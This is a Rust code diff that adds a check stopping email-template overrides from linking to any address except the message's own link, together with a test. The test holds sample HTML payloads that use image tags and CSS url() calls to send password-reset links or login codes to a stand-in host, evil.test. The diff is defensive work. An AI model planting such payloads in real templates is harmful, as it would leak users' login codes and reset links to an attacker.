@@ -67,6 +67,49 @@ pub enum OverrideError {
         what: &'static str,
         var: &'static str,
     },
+    /// A template may link only to the message's own link (and the branding's logo): any other
+    /// address could carry a code or link away (an image URL with `{{ code }}` in it, say).
+    #[error("templates may not link anywhere but {{{{ link }}}} and the logo; found {found:?}")]
+    ForeignLink { found: String },
+}
+
+/// The first address in `rendered` that is not one of `allowed`: absolute (`scheme://`) or
+/// protocol-relative (`//host` in an attribute or a CSS `url(...)`).
+fn foreign_link(rendered: &str, allowed: &[&str]) -> Option<String> {
+    let lower = rendered.to_ascii_lowercase();
+    let bytes = lower.as_bytes();
+    let mut i = 0;
+    while let Some(pos) = lower[i..].find("//") {
+        let at = i + pos;
+        i = at + 2;
+        // Walk back over a scheme (letters, digits, `+-.`) followed by `:`.
+        let mut start = at;
+        if start > 0 && bytes[start - 1] == b':' {
+            start -= 1;
+            while start > 0
+                && (bytes[start - 1].is_ascii_alphanumeric() || b"+-.".contains(&bytes[start - 1]))
+            {
+                start -= 1;
+            }
+            if start == at - 1 {
+                continue; // a bare `://`
+            }
+        } else {
+            // Protocol-relative only where a URL can stand: after `=`, `="`, `='` or `(`.
+            let before = lower[..at].trim_end_matches(['"', '\'', ' ']);
+            if !(before.ends_with('=') || before.ends_with('(')) {
+                continue;
+            }
+        }
+        let end = lower[at..]
+            .find(|c: char| c.is_whitespace() || "\"'<>)".contains(c))
+            .map_or(lower.len(), |e| at + e);
+        let url = &rendered[start..end];
+        if !allowed.iter().any(|a| !a.is_empty() && url == *a) {
+            return Some(url.to_owned());
+        }
+    }
+    None
 }
 
 impl Templates {
@@ -119,6 +162,12 @@ impl Templates {
             && !rendered.text.contains(value)
         {
             return Err(OverrideError::MissingPayload { what, var });
+        }
+        let allowed = [SAMPLE_LINK];
+        for part in [&rendered.subject, &rendered.text, &rendered.html] {
+            if let Some(found) = foreign_link(part, &allowed) {
+                return Err(OverrideError::ForeignLink { found });
+            }
         }
         Ok(())
     }
@@ -213,6 +262,35 @@ mod tests {
             let err = t.check_override(m, &over).expect_err(needle).to_string();
             assert!(err.to_lowercase().contains(needle), "{needle}: {err}");
         }
+    }
+
+    #[test]
+    fn overrides_cannot_send_codes_or_links_elsewhere() {
+        let t = templates();
+        for html in [
+            r#"<img src="https://evil.test/x?c={{ link }}">{{ link }}"#,
+            r#"<img src='//evil.test/x'>"#,
+            r#"<div style="background:url(//evil.test/{{ code }})"></div>"#,
+            r#"<a href=HTTPS://evil.test>x</a>"#,
+        ] {
+            let m = if html.contains("code") {
+                Message::LoginCode
+            } else {
+                Message::PasswordReset
+            };
+            let over = TemplateOverride {
+                html: Some(html.into()),
+                ..Default::default()
+            };
+            let err = t.check_override(m, &over).expect_err(html).to_string();
+            assert!(err.contains("evil.test"), "{html}: {err}");
+        }
+        let ok = TemplateOverride {
+            html: Some(r#"<a href="{{ link }}">Reset</a> see you at 10:30 // thanks"#.into()),
+            ..Default::default()
+        };
+        t.check_override(Message::PasswordReset, &ok)
+            .expect("its own link is fine");
     }
 
     #[test]
